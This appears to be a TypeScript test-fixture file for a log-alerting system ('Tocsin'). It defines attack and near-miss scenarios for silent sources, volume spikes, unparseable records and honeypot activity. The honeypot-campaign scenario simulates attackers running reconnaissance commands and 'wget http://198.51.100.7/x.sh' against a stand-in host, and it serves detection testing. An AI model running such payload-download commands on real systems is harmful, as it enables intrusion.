// The sources themselves, and the honeypot.

import { cowrieSession } from './cowrie.suite.ts';
import { authLine } from './linux.suite.ts';
import { office, type Scenarios } from './scenario.suite.ts';
import { addressOf, day, hour, minute, second, spread } from './sent.suite.ts';
import { request } from './web.suite.ts';

/** A source that says the same once in a while. */
const chatter = (start: number, count: number, every: number) =>
  spread({ start, count, every }, (time) => authLine(time, 'web1', 'CRON[900]', '(root) CMD (true)'));

const visits = (start: number, count: number, every: number) =>
  spread({ start, count, every }, (time) => request({ time, from: office, path: '/' }));

export const sourceScenarios: Readonly<Record<string, Scenarios>> = {
  'Tocsin.Source.Silent': {
    attacks: {
      'after a week of lines, none': {
        title: 'No events from auth since ',
        history: 7 * day,
        tail: 2 * hour,
        records: (start) => chatter(start - 7 * day, 7 * 24, hour),
      },
    },
    nearMisses: {
      'half an hour of silence': {
        history: 7 * day,
        tail: 30 * minute,
        records: (start) => chatter(start - 7 * day, 7 * 24 + 1, hour),
      },
      'that speaks once a day': {
        history: 7 * day,
        tail: 2 * hour,
        records: (start) => chatter(start - 7 * day, 8, day),
      },
    },
  },
  'Tocsin.Source.VolumeSpike': {
    attacks: {
      'six times as much': {
        title: 'auth: 12000 events in an hour, 2000 are usual',
        history: 2 * day,
        records: (start) => [
          ...spread({ start: start - 26 * hour, count: 52, every: hour / 2 }, (time) =>
            Array.from({ length: 1000 }, () => authLine(time, 'web1', 'CRON[900]', '(root) CMD (true)')),
          ),
          ...chatter(start, 12_000, 200),
        ],
      },
    },
    nearMisses: {
      'a new source': { records: (start) => chatter(start, 20_000, 100) },
      'four times as much': {
        history: 2 * day,
        records: (start) => [
          ...spread({ start: start - 26 * hour, count: 26, every: hour }, (time) =>
            Array.from({ length: 3000 }, () => authLine(time, 'web1', 'CRON[900]', '(root) CMD (true)')),
          ),
          ...chatter(start, 12_000, 200),
        ],
      },
    },
  },
  'Tocsin.Source.DeadLetters': {
    attacks: {
      'a fifth': {
        title: 'nginx: 20 % of the records fit no schema',
        records: (start) => [
          ...visits(start, 800, 200),
          ...spread({ start, count: 200, every: 800 }, (time) => ({ source: 'nginx', time, text: 'not a request' })),
        ],
      },
    },
    nearMisses: {
      'one in thirty': {
        records: (start) => [
          ...visits(start, 3000, 50),
          ...spread({ start, count: 100, every: second }, (time) => ({ source: 'nginx', time, text: 'not a request' })),
        ],
      },
      'half, but few': {
        records: (start) => [
          ...visits(start, 50, second),
          ...spread({ start, count: 50, every: second }, (time) => ({ source: 'nginx', time, text: 'not a request' })),
        ],
      },
    },
  },
  'Tocsin.Honeypot.Campaign': {
    attacks: {
      'twelve addresses': {
        title: 'Honeypot: 12 addresses do the same',
        tail: hour,
        records: (start) =>
          spread({ start, count: 12, every: 2 * minute }, (time, index) =>
            cowrieSession({
              time,
              from: addressOf(index),
              id: `a1b2c3d4${index.toString(16).padStart(4, '0')}`,
              commands: ['uname -a', 'cat /proc/cpuinfo', 'wget http://198.51.100.7/x.sh'],
            }),
          ),
      },
    },
    nearMisses: {
      'nine addresses': {
        tail: hour,
        records: (start) =>
          spread({ start, count: 30, every: minute }, (time, index) =>
            cowrieSession({
              time,
              from: addressOf(index % 9),
              id: `b1b2c3d4${index.toString(16).padStart(4, '0')}`,
              commands: ['uname -a', 'free -m'],
            }),
          ),
      },
      'each does something else': {
        tail: hour,
        records: (start) =>
          spread({ start, count: 15, every: minute }, (time, index) =>
            cowrieSession({
              time,
              from: addressOf(index),
              id: `c1b2c3d4${index.toString(16).padStart(4, '0')}`,
              commands: [`tool${String.fromCodePoint(97 + index)} run`],
            }),
          ),
      },
    },
  },
  'Tocsin.Honeypot.Contact': {
    attacks: {
      'an address that was in it': {
        title: 'address 203.0.113.250 of the honeypot seen in Nginx.Access',
        records: (start) => [request({ time: start, from: '203.0.113.250', path: '/' })],
      },
    },
    nearMisses: {
      'another address': { records: (start) => [request({ time: start, from: '203.0.113.251', path: '/' })] },
      'the honeypot itself': {
        records: (start) => cowrieSession({ time: start, from: '203.0.113.250', id: 'd1b2c3d40000', commands: ['id'] }),
      },
    },
  },
};
